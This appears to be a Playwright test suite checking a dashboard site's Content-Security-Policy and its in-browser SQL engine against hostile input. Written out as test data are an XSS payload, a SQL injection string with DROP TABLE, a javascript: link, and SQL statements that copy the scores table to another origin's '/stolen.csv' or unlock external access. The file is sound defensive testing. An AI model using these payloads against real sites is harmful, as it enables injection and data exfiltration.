import type {Page} from "@playwright/test";
import {changeAnswers, mapRows} from "./answers.js";
import {likeOthers} from "./longRun.js";
import {expect, test} from "./pageMonitor.js";
import {
  benchmarks,
  chips,
  choose,
  data,
  drawn,
  engineReady,
  figure,
  open,
  SITE,
  titleOf,
  valuation
} from "./site.js";
import {openStranger, type Stranger} from "./stranger.js";
import {parseCsv, pictureFacts, takeAway} from "./takeAway.js";

let stranger: Stranger;
test.beforeAll(async () => {
  stranger = await openStranger();
});
test.afterAll(() => stranger.close());

test("the other origin of these tests answers whoever reaches it", async () => {
  expect((await fetch(`${stranger.origin}/reached`)).ok).toBe(true);
  expect(stranger.asked).toContain("/reached");
});

for (const site of SITE)
  test(`${site.path} has its policy before anything that could run`, async ({page}) => {
    const html = await (await page.request.get(site.path)).text();
    const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html);
    expect(policy?.[1]?.split("; ")).toEqual(
      expect.arrayContaining([
        "default-src 'self'",
        "connect-src 'self' blob: data:",
        "object-src 'none'",
        "base-uri 'self'",
        "form-action 'none'"
      ])
    );
    expect(policy?.[1]).not.toContain("'unsafe-eval'");
    expect(policy?.[1]).not.toMatch(/script-src[^;]*'unsafe-inline'/);
    expect(policy?.index).toBeLessThan(html.indexOf("<script"));
  });

/** Opens the page's own engine once more, over the table of scores, and runs statements one after the other. */
async function runSql(page: Page, statements: readonly string[]): Promise<string[]> {
  return page.evaluate(async (sqls) => {
    const entries = performance.getEntriesByType("resource").map(({name}) => name);
    const module = entries.find((name) => /\/lib\/database\.\w+\.js$/.test(name));
    const {openDatabase} = await import(module!);
    const database = await openDatabase({
      scores: Promise.resolve(new URL("scores.parquet", location.href).href)
    });
    const said: string[] = [];
    for (const sql of sqls)
      said.push(
        await database.query(sql).then(
          (rows: unknown) => JSON.stringify(rows),
          (error: Error) => `failed: ${error.message}`
        )
      );
    return said;
  }, statements);
}

test.describe("the policy", () => {
  // The browser tells of a request also where it refuses it.
  test.use({tolerated: /Content Security Policy|request to http|Failed to load|Refused to/});

  test("refuses every kind of request from the page to another origin", async ({page, pageMonitor}) => {
    await open(page, benchmarks);
    const before = stranger.asked.length;
    const refused = await page.evaluate(async (origin) => {
      const violations: string[] = [];
      document.addEventListener("securitypolicyviolation", ({blockedURI, effectiveDirective}) =>
        violations.push(`${effectiveDirective} ${new URL(blockedURI).pathname}`)
      );
      const load = (element: HTMLElement, address: string) =>
        new Promise((resolve) => {
          element.addEventListener("error", resolve);
          Object.assign(element, {src: address});
          document.head.append(element);
        });
      await fetch("https://example.com/fetch").catch(() => {});
      await fetch(`${origin}/fetch`).catch(() => {});
      await load(new Image(), `${origin}/image`);
      await load(document.createElement("script"), `${origin}/script`);
      const last = new Promise((resolve) => document.addEventListener("securitypolicyviolation", resolve));
      navigator.sendBeacon(`${origin}/beacon`, "x");
      await last;
      return violations;
    }, stranger.origin);
    // The page's own policy and that of the server's header tell of each.
    expect([...new Set(refused)]).toEqual([
      "connect-src /fetch",
      "img-src /image",
      "script-src-elem /script",
      "connect-src /beacon"
    ]);
    await expect.poll(() => pageMonitor.refused.toSorted()).toEqual(pageMonitor.foreign.toSorted());
    expect(stranger.asked.slice(before)).toEqual([]);
  });

  test("runs no script that is written into the page, whatever way", async ({page}) => {
    await open(page, benchmarks);
    const refused = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener("securitypolicyviolation", ({blockedURI, effectiveDirective, disposition}) =>
        violations.push(`${disposition} ${effectiveDirective} ${blockedURI}`)
      );
      const run = "document.body.dataset.ran = 'yes'";
      const script = document.createElement("script");
      script.textContent = run;
      const [button, link] = [document.createElement("button"), document.createElement("a")];
      button.setAttribute("onclick", run);
      link.href = `javascript:${run}`;
      document.body.append(script, button, link);
      const last = new Promise((resolve) =>
        document.addEventListener("securitypolicyviolation", ({effectiveDirective}) => {
          if (effectiveDirective === "script-src-elem" && violations.length > 2) resolve(null);
        })
      );
      button.click();
      link.click();
      await last;
      return violations;
    });
    // The page's own policy alone: the server's would let them.
    expect(refused.sort()).toEqual([
      "enforce script-src-attr inline",
      "enforce script-src-elem inline",
      "enforce script-src-elem inline"
    ]);
    await expect(page.locator("body")).not.toHaveAttribute("data-ran");
  });

  test(
    "holds in a worker that starts from a blob, as the engine's does",
    likeOthers(),
    async ({page, pageMonitor}) => {
      await open(page, benchmarks);
      await engineReady(page);
      expect(page.workers().map((worker) => worker.url().split(":")[0])).toEqual(["blob"]);
      expect(pageMonitor.requests.some((url) => url.includes("duckdb-browser-eh.worker"))).toBe(true);
      const [engine] = page.workers();
      const before = stranger.asked.length;
      const answer = await engine!.evaluate(
        (address) =>
          fetch(address).then(
            () => "reached",
            (error: Error) => error.message
          ),
        `${stranger.origin}/worker`
      );
      expect(answer).toContain("Failed to fetch");
      expect(stranger.asked.slice(before)).toEqual([]);
    }
  );

  test("SQL in the page reaches no other origin, loads no code, unlocks nothing, and leaves the engine whole", async ({
    page,
    pageMonitor
  }) => {
    await open(page, data);
    await engineReady(page);
    const before = stranger.asked.length;
    const count = "SELECT count(*) AS n FROM scores";
    const hostile = [
      "FROM 'https://example.com/x.parquet'",
      `FROM read_csv('${stranger.origin}/x.csv')`,
      `FROM read_parquet('${stranger.origin}/x.parquet')`,
      `FROM '${new URL(page.url()).origin}/data/scores.parquet'`,
      "LOAD httpfs",
      "SET enable_external_access=true",
      "SET autoload_known_extensions=true",
      "SET lock_configuration=false",
      `COPY scores TO '${stranger.origin}/stolen.csv'`,
      `ATTACH '${stranger.origin}/x.db' AS x`
    ];
    const said = await runSql(page, ["INSTALL httpfs", ...hostile.flatMap((sql) => [sql, count])]);
    for (const [i, sql] of hostile.entries()) {
      expect(said[1 + 2 * i], sql).toMatch(/^failed: /);
      expect(said[2 + 2 * i], sql).toBe('[{"n":535}]');
    }
    // The engine's settings refuse the files, but only after it has looked for them: here the policy stands alone.
    await expect.poll(() => pageMonitor.refused.toSorted()).toEqual(pageMonitor.foreign.toSorted());
    expect(stranger.asked.slice(before)).toEqual([]);
  });
});

const MARKUP = "<img src=x onerror=alert(1)>";
const STATEMENT = "'; DROP TABLE scores; --<mark>";

/** Names that hold markup are on the page as they stand, and nothing of them became an element. */
async function expectText(page: Page, places: readonly string[], name: string): Promise<void> {
  for (const place of places) await expect(page.locator(place).getByText(name).first(), place).toBeAttached();
  await expect(page.locator("main :is(img, mark, script:not([type]))")).toHaveCount(0);
}

test(
  "a company's name that holds markup is text wherever it stands, on the page and in its files",
  likeOthers(),
  async ({page}) => {
    await changeAnswers(page, (answers) =>
      mapRows(answers, (row) => {
        if (row.code === "300308.SZ") return {...row, name_en: MARKUP, name_zh: MARKUP};
        return row.sector_en === "PCB" ? {...row, sector_en: MARKUP} : row;
      })
    );
    await open(page, valuation);
    await expectText(page, ["#pe-growth svg", "#percentiles svg", "#companies tbody", ".bf-multi"], MARKUP);
    await page.locator('#pe-growth circle[data-code="300308.SZ"]').hover();
    await expect(page.locator("#pe-growth .bf-tips")).toContainText(MARKUP);
    const svg = await takeAway(page, "pe-growth", "svg");
    expect((await pictureFacts(page, svg.bytes)).words).toContain(MARKUP.replaceAll(" ", ""));
    const csv = parseCsv((await takeAway(page, "companies", "csv")).bytes);
    expect(csv.map((row) => row.name_en)).toContain(MARKUP);
  }
);

test("a model's name that holds SQL and markup is text, also as a filter", async ({page}) => {
  await changeAnswers(page, (answers) =>
    mapRows(answers, (row) =>
      row.model_id === "gemma-2b"
        ? {...row, model_id: STATEMENT, ...("name" in row ? {name: STATEMENT} : {model: STATEMENT})}
        : row
    )
  );
  await open(page, benchmarks);
  await expectText(page, ["#scores thead", "#summary svg", "#summary-table tbody", ".bf-multi"], STATEMENT);
  await page.getByRole("radio", {name: "Dot plot"}).check();
  await expect(page.locator("#score-dots")).toContainText(STATEMENT);

  await choose(page, "Models", [STATEMENT]);
  await expect(titleOf(page, "summary")).toContainText(STATEMENT);
  await expect(chips(page)).toHaveText([`Models: ${STATEMENT}`]);
  await expectText(page, [".bf-chips"], STATEMENT);
  await choose(page, "Models", ["Gemma 7B", "Mistral 7B"]);
  await expect(titleOf(page, "summary")).toContainText("56.86 over 18 benchmarks");
  // The engine knows no such model: it is asked for one as a value, and finds none.
  await page.getByRole("radio", {name: "Head to head"}).check();
  await page.getByRole("combobox", {name: "Model", exact: true}).selectOption(STATEMENT);
  await drawn(page);
  await expect(titleOf(page, "head-to-head")).toHaveText(
    `No benchmark has a score of both ${STATEMENT} and Mistral 7B`
  );
  await expect(page.locator(".figure-error")).toHaveCount(0);
});

test("rows of the data page that hold markup are text, and their addresses cannot run", async ({page}) => {
  await changeAnswers(page, (answers) =>
    mapRows(answers, (row) => ({
      ...row,
      ...("model" in row ? {model: MARKUP} : {}),
      ...("name_en" in row ? {name_en: MARKUP} : {}),
      ...("source_url" in row ? {source_url: "javascript:alert(1)//huggingface.co/a/b"} : {})
    }))
  );
  await open(page, data);
  await expectText(page, ["#finding-wins", "#finding-missing", "#finding-sizes"], MARKUP);
  await expect(figure(page, "finding-sizes").locator('a[href^="javascript:"]')).toHaveCount(0);
});
